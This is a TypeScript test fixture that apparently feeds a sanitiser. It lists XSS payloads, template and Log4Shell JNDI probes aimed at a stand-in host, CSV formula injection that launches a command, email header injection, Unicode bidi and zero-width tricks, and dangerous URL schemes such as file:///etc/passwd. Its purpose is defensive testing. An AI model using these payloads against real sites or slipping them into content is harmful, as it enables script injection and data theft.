/**
 * What a stranger may write into a title, a name, a passage or a reason. A script that runs says so by `alert` or by
 * `window.pwned`; whatever loads something asks `foreign.example`.
 */
export const TEXTS: readonly (readonly [what: string, text: string])[] = [
  ['205 script', '<script>window.pwned=1;alert(1)</script>'],
  ['205 link with a script', '<a href="javascript:window.pwned=1">read me</a>'],
  ['205 style', '<p style="background:url(javascript:alert(1))">styled</p>'],
  ['205 scheme that a filter would put together', '<a href="javajavascript:script:alert(1)">x</a>'],
  ['205 reference without its semicolon', '&#0000060script&#62alert(1)&#60/script&#62'],
  ['205 handler', '<b onmouseover="alert(1)" onfocus=alert(1) tabindex=1 autofocus>bold</b>'],
  ['205 doubled bracket', '<<SCRIPT>alert(1);//<</SCRIPT>'],
  ['205 sheet', '<LINK REL="stylesheet" HREF="http://foreign.example/x.css">'],
  ['205 escaped scheme', '<a href="j&#x41vascript:alert(1)">x</a>'],
  ['205 escaped element', '<time>&lt;script&gt;alert(1)&lt;/script&gt;</time>'],
  ['205 image', '<img src="http://foreign.example/p.gif" onerror=alert(1)>'],
  ['205 frame', '<iframe srcdoc="<script>alert(1)</script>" src=//foreign.example></iframe>'],
  ['205 drawing', '<svg/onload=alert(1)><animate onbegin=alert(1) attributeName=x>'],
  [
    '205 mathematics',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ['205 form', '<form action=//foreign.example><button formaction=javascript:alert(1) autofocus>Go</button></form>'],
  ['205 base and refresh', '<base href=//foreign.example/><meta http-equiv=refresh content="0;url=//foreign.example">'],
  ['207 double quote', '"><img src=x onerror=alert(1)>'],
  ['207 single quote', "'><img src=x onerror=alert(1)> x='"],
  ['207 backtick', '`><img src=x onerror=alert(1)>`'],
  [
    '207 end of what it could stand in',
    '</bdi></a></td></textarea></title></style></template></noscript><script>alert(1)</script>',
  ],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template engine would run
  ['207 templates', '{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {%raw%} [[7*7]] @(7*7)'],
  ['208 end of script', '</script><script>alert(1)</script>'],
  ['208 comment', '<!-- --!> <script>alert(1)</script> -->'],
  ['208 end of CDATA', ']]><script>alert(1)</script><![CDATA['],
  ['208 JSON', '","moderation":"approved","x":"\\u003c\\'],
  [
    '210 style that covers the page',
    '<style>*{position:fixed;inset:0;font-size:99em;background:url(http://foreign.example/)}</style>',
  ],
  ['216 header', 'Hello Bcc: eve@evil.example =?utf-8?B?PHNjcmlwdD4=?='],
  ['219 formula', "=cmd|'/c calc'!A1"],
  ['219 formula with a plus', '+1+1'],
  ['219 formula with an at', '@SUM(1+1)*cmd|x'],
  ['220 XML', '<!DOCTYPE x [<!ENTITY a "b">]>&a;<?xml-stylesheet href="http://foreign.example/"?>'],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a logger would look up
  ['log', '%s %d %n %x ${jndi:ldap://foreign.example/a} {"level":60}'],
];

/** Text that is changed before it is shown; what is left of it, where it is one line. */
export const CLEANED: readonly (readonly [what: string, text: string, left: string])[] = [
  ['213 override', 'Mal\u202Elory <b>', 'Mallory <b>'],
  ['213 isolates', 'a\u2066b\u2067c\u2068d\u2069e', 'abcde'],
  ['213 marks', 'a\u200Eb\u200Fc\u061Cd', 'abcd'],
  ['213 zero width', 'pay\u200Bpal\uFEFF', 'paypal'],
  ['213 tags', 'flag\u{E0067}\u{E0062}\u{E007F}', 'flag'],
  ['213 separators', 'a\u2028b\u2029c', 'a b c'],
  ['215 line ends', `first${'\r\n'.repeat(500)}second`, 'first second'],
  ['216 header with a line end', 'Hello\r\nBcc: eve@evil.example', 'Hello Bcc: eve@evil.example'],
  ['219 formula after a tab', '\t=1+1', '=1+1'],
  ['220 characters that XML has not', 'a\u0001b\u0000c', 'abc'],
  ['terminal', 'a\u001b[31mb\u009b2Jc\u0007', 'a[31mb2Jc'],
];

/** Values of URL fields of which no link may come, and no request. */
export const URLS: readonly (readonly [what: string, url: string])[] = [
  ['206 script', 'javascript:window.pwned=1'],
  ['206 upper and lower case', 'JaVaScRiPt:alert(1)'],
  ['206 tab', 'java\tscript:alert(1)'],
  ['206 line end', 'java\nscript:alert(1)'],
  ['206 control character', '\u0001javascript:alert(1)'],
  ['206 blank', ' javascript:alert(1)'],
  ['206 vbscript', 'vbscript:msgbox(1)'],
  ['206 data', 'data:text/html,<script>alert(1)</script>'],
  ['206 blob', 'blob:http://foreign.example/x'],
  ['206 file', 'file:///etc/passwd'],
  ['206 no scheme', '//foreign.example/'],
  ['206 end of attribute', 'http://foreign.example/" onmouseover="alert(1)'],
  ['206 credentials', 'https://bank.example@foreign.example/'],
  ['206 feed', 'feed:javascript:alert(1)'],
  ['206 intent', 'intent://x#Intent;scheme=javascript;end'],
];
